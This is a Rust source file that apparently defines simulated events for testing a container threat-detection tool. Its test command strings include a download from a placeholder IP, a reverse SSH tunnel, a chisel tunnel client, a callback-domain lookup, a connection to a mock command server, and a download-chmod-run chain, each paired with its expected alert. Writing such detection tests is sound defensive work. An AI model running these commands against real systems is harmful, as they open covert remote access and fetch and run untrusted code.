//! Steered from outside.

use kestrel_proto::v1::Priority::{Critical, Notice, Warning};

use super::act::{
    Act,
    Place::{Pod, Terminal},
};

pub(crate) const ACTS: &[Act] = &[
    Act::new(
        "Download in a container",
        Notice,
        Pod,
        "/bin/wget -O /tmp/page http://203.0.113.7:9/",
        &["process=wget", "command=wget -O /tmp/page http://203.0.113.7:9/"],
    ),
    Act::new(
        "Package installed in a container",
        Warning,
        Pod,
        "nothing apk add curl",
        &["process=apk exe=/bin/nothing command=apk add curl"],
    ),
    Act::new(
        "Interpreter installed a package in a container",
        Notice,
        Terminal,
        "nothing pip install requests",
        &["process=pip exe=/bin/nothing command=pip install requests"],
    ),
    Act::new(
        "SSH on the port of another service",
        Warning,
        Pod,
        "as ssh knock 203.0.113.7:443",
        &["port=443 process=ssh exe=/bin/suspect"],
    ),
    Act::new(
        "SSH tunnel opened",
        Warning,
        Pod,
        "nothing ssh -N -R 8022:localhost:22 gate",
        &["process=ssh exe=/bin/nothing command=ssh -N -R 8022:localhost:22 gate"],
    ),
    Act::new(
        "Tunnel or proxy started",
        Warning,
        Pod,
        "nothing chisel client",
        &["process=chisel exe=/bin/nothing command=chisel client"],
    ),
    Act::new(
        "Connection to a service of tunnels",
        Warning,
        Pod,
        "as client look-up x1.oast.fun 203.0.113.8:443",
        &["name=x1.oast.fun", "203.0.113.8:443 process=client"],
    ),
    Act::new(
        "Connection to a known command server",
        Critical,
        Pod,
        "as implant knock 192.0.2.1:4443",
        &["192.0.2.1:4443", "process=implant"],
    ),
    Act::new(
        "Download made executable and run in a container",
        Warning,
        Pod,
        "nothing curl http://x; cp /bin/nothing $DIR/fetched; /bin/chmod 700 $DIR/fetched; $DIR/fetched",
        &["process=fetched exe=/tmp/as/fetched"],
    ),
];
